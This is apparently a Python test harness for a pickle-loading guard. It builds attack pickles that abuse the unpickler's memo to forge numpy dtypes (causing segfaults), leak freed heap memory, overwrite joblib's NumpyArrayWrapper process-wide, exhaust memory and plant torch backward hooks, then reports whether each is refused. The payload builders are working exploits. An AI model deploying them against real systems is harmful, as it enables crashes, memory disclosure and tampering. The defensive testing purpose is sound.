"""Attacks through the memo on objects the reconstruction checks already passed (issue 9,
attacker's review). Only default-pack globals are named.

    reconstruction_memo_attacks.py run ENTRY [CASE ...]   one JSON line per case
    reconstruction_memo_attacks.py case ENTRY CASE        (internal) load one case here
    reconstruction_memo_attacks.py write DIR [CASE ...]   write each case's file as DIR/CASE.pkl (for scans)

Outcomes as in reconstruction_attacks.py: refused, crashed, leaked, harmed (a class of the
process was changed for later loads), loaded (no harm), error.

Cases (ID, what it does, and why a guard passes):
  RC-26 a structured dtype's `fields` dict is memoized; after the dtype passed its checks and
        an array was built with it, the pickle SETITEMs field `a` to an object dtype at
        offset 0. numpy keeps that dict, so reading `a` dereferences 8 bytes from the file
        -> SIGSEGV. Passes when the checked state reaches numpy as a private copy (the
        array loads and `a` reads back as the integer it was): outcome `loaded`. Fails if
        numpy is handed the pickle's own dict again.
  RC-27 two pickles on one Unpickler: the memo outlives load(); the second pickle BUILDs a
        forged state onto the first pickle's (checked, used) dtype -> SIGSEGV on reading
        `a`. Passes when the second load knows where its memo's objects came from and the
        dtype's set-once rule refuses it. Fails if provenance is per load again.
  RC-28 two pickles on one Unpickler: the first memoizes the class `numpy.ndarray`, the second
        applies it from the memo -> uninitialised heap memory (a freed secret). Passes when
        the second load refuses it as it would a named `numpy.ndarray`.
  RC-29 a slot-state BUILD onto the class `NumpyArrayWrapper` (which the pickle resolved)
        sets `read_array` to `builtins.slice` for the whole process: every later, genuine
        joblib.load of an array breaks. Passes when the BUILD onto a resolved class is
        refused in every unpickler, the pure-Python one included.
  RC-30 `_codecs.encode` of a 4 KiB str REDUCEd 75,000 times from the memo, each result
        dropped (POP): stock pickle needs one result at a time, but a guard that keeps every
        object a ruled global built until the load ends holds 300 MiB (6 bytes of pickle per
        copy). Passes when the peak RSS stays under BLOATED_MIB: outcome `loaded`. Fails if
        records of dropped objects are kept again.
  RC-30c the control for RC-30: the same results kept in a list really need 300 MiB, so
        the measurement reports `bloated` with or without the guard.
  RC-32 a torch parameter rebuilt with an EMPTY `backward_hooks` OrderedDict (which passes
        the check) that the pickle memoized and fills with `builtins.slice` after the
        rebuild: torch keeps that dict, so autograd would call the pickle's callable.
        Passes when the checked arguments reach torch as a private copy (the parameter's
        hooks stay empty): outcome `loaded`. Fails (`harmed`) if torch gets the pickle's dict.
"""

import io
import json
import os
import pickle
import struct
import sys

from reconstruction_attacks import command_line, run_case

SECRET = b"PICKLEGUARD-FREED-SECRET-"
DEFAULT_TIME_LIMIT = 60
CASES = ["RC-26", "RC-27", "RC-28", "RC-29", "RC-30", "RC-30c", "RC-32"]
BLOATED_MIB = 150
# Cases made of two pickles read by one unpickler.
STREAMS = {"RC-27", "RC-28"}


class Ops:
    """A few pickle opcodes, protocol 3."""

    def __init__(self):
        self.b = bytearray(b"\x80\x03")

    def __getattr__(self, name):
        codes = {
            "mark": b"(", "tup": b"t", "t0": b")", "t1": b"\x85", "t2": b"\x86", "t3": b"\x87",
            "none": b"N", "true": b"\x88", "false": b"\x89", "reduce": b"R", "build": b"b",
            "setitem": b"s", "setitems": b"u", "pop": b"0", "stop": b".", "dict": b"}",
            "newobj": b"\x81",
        }
        code = codes[name]

        def emit():
            self.b += code
            return self

        return emit

    def glob(self, module, name):
        self.b += b"c" + module.encode() + b"\n" + name.encode() + b"\n"
        return self

    def s(self, text):
        data = text.encode()
        self.b += b"X" + struct.pack("<I", len(data)) + data
        return self

    def by(self, data):
        self.b += b"C" + bytes([len(data)]) + data
        return self

    def i(self, n):
        self.b += b"J" + struct.pack("<i", n)
        return self

    def put(self, n):
        self.b += b"r" + struct.pack("<I", n)
        return self

    def get(self, n):
        self.b += b"j" + struct.pack("<I", n)
        return self

    def dtype(self, typestr):
        return self.glob("numpy", "dtype").s(typestr).false().true().t3().reduce()

    def plain_dtype(self, typestr, order, flags=0):
        self.dtype(typestr)
        return self.mark().i(3).s(order).none().none().none().i(-1).i(-1).i(flags).tup().build()

    def struct_state(self, a_dtype, memo=None):
        """BUILD of a V16 dtype (on the stack) with fields a@0, b@8 (`a` as `a_dtype` makes it)
        and flags 16, a struct's without references."""
        self.mark().i(3).s("|").none().s("a").s("b").t2().dict()
        if memo is not None:
            self.put(memo)
        self.mark().s("a")
        a_dtype(self)
        self.i(0).t2().s("b").plain_dtype("i8", "<").i(8).t2().setitems()
        return self.i(16).i(1).i(16).tup().build()

    def array_of(self, dtype, data):
        """`_reconstruct(ndarray, (0,), b'b')` + BUILD (1, (1,), dtype, False, data)."""
        self.glob("numpy._core.multiarray", "_reconstruct").glob("numpy", "ndarray")
        self.i(0).t1().by(b"b").t3().reduce()
        self.mark().i(1).i(1).t1()
        dtype(self)
        return self.false().by(data).tup().build()

    def done(self):
        return bytes(self.stop().b)


def int_field(ops):
    ops.plain_dtype("i8", "<")


def object_field(ops):
    ops.plain_dtype("O8", "|", 63)


POINTER = struct.pack("<QQ", 0x4141414141414141, 0)


def payload(case):
    """The pickle bytes of `case` (two pickles back to back for the STREAMS cases)."""
    if case == "RC-26":
        ops = Ops().array_of(lambda o: o.dtype("V16").struct_state(int_field, memo=9), POINTER)
        # the array is built and checked; now field `a` becomes an object field
        ops.get(9).s("a").plain_dtype("O8", "|", 63).i(0).t2().setitem().pop()
        return ops.done()
    if case == "RC-27":
        first = Ops().array_of(lambda o: o.dtype("V16").put(9).struct_state(int_field), POINTER)
        # struct_state writes flags 16, a struct without references: they hide the object
        # field, so numpy frees nothing and reads the pointer
        second = Ops().get(9).struct_state(object_field)
        return first.done() + second.done()
    if case == "RC-28":
        first = Ops().glob("numpy", "ndarray").put(9).pop().none()
        second = Ops().get(9).i(7500).t1().reduce()
        return first.done() + second.done()
    if case == "RC-32":
        import os

        sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "findings"))
        import f6_backward_hooks

        return f6_backward_hooks.payload_late()
    if case == "RC-29":
        ops = Ops().glob("joblib.numpy_pickle", "NumpyArrayWrapper")
        ops.none().dict().s("read_array").glob("builtins", "slice").setitem().t2().build()
        return ops.done()
    if case in ("RC-30", "RC-30c"):
        # 4096 characters: the longest str that may be encoded again (longer ones are
        # refused on their second encoding, RC-33), so this measures what is kept, not that.
        text = b"A" * 4096
        keep = case == "RC-30c"
        return (
            b"\x80\x04]\x94c_codecs\nencode\n\x94"  # memo 0 a list, memo 1 the callable
            + b"X" + struct.pack("<I", len(text)) + text
            + b"\x8c\x07latin-1\x86\x94"  # memo 2 the arguments
            + (b"h\x00h\x01h\x02Ra0" if keep else b"h\x01h\x02R0") * 75_000
            + b"h\x00."
        )
    raise SystemExit(f"unknown case {case}")


class _Subclass(pickle.Unpickler):
    def find_class(self, module, name):
        return super().find_class(module, name)


ENTRIES = {
    "pickle.loads": pickle.loads,
    "pickle.load": lambda data: pickle.load(io.BytesIO(data)),
    "pickle.Unpickler": lambda data: pickle.Unpickler(io.BytesIO(data)).load(),
    "_pickle.loads": lambda data: __import__("_pickle").loads(data),
    "pickle._loads": pickle._loads,
    "subclass": lambda data: _Subclass(io.BytesIO(data)).load(),
}

# For two pickles in one stream: the unpickler class an entry uses.
STREAM_CLASSES = {
    "pickle.Unpickler": lambda: pickle.Unpickler,
    "_pickle.Unpickler": lambda: __import__("_pickle").Unpickler,
    "pickle._Unpickler": lambda: pickle._Unpickler,
    "subclass": lambda: _Subclass,
}


def later_joblib_load_works():
    import tempfile

    import joblib
    import numpy

    with tempfile.TemporaryDirectory() as folder:
        path = folder + "/genuine.joblib"
        joblib.dump(numpy.arange(3), path)
        try:
            return isinstance(joblib.load(path), numpy.ndarray)
        except Exception:  # noqa: BLE001 - a broken joblib is the harm being measured
            return False


def load_one(entry, case):
    data = payload(case)
    outcome = "loaded"
    try:
        if case in STREAMS:
            unpickler = STREAM_CLASSES[entry]()(io.BytesIO(data))
            first = unpickler.load()
            if case == "RC-28":
                secret = bytearray(SECRET * 2400)
                del secret
            second = unpickler.load()
            if case == "RC-27":
                repr(first["a"][0])
            elif SECRET in second.tobytes():
                outcome = "leaked"
        else:
            result = ENTRIES[entry](data)
            if case == "RC-32" and len(result._backward_hooks):
                outcome = "harmed"
            if case == "RC-26":
                value = result["a"][0]
                if not isinstance(value, int) and type(value).__name__ != "int64":
                    outcome = "error"
    except Exception as error:  # noqa: BLE001 - the outcome is reported, not raised
        kind = type(error).__name__
        outcome = "refused" if kind == "UnsafeFileError" else "error"
        print(json.dumps({"outcome": outcome, "message": f"{kind}: {error}"}))
        return
    if case == "RC-29" and not later_joblib_load_works():
        outcome = "harmed"
    if case.startswith("RC-30"):
        import resource

        if resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024 > BLOATED_MIB:
            outcome = "bloated"
    print(json.dumps({"outcome": outcome}))


def run(entry, cases):
    for case in cases:
        runs = entry in STREAM_CLASSES if case in STREAMS else entry in ENTRIES
        if runs:
            report = run_case(__file__, entry, case, DEFAULT_TIME_LIMIT)
            print(json.dumps(report), flush=True)


if __name__ == "__main__":
    command_line(sys.argv, payload, load_one, run, CASES)
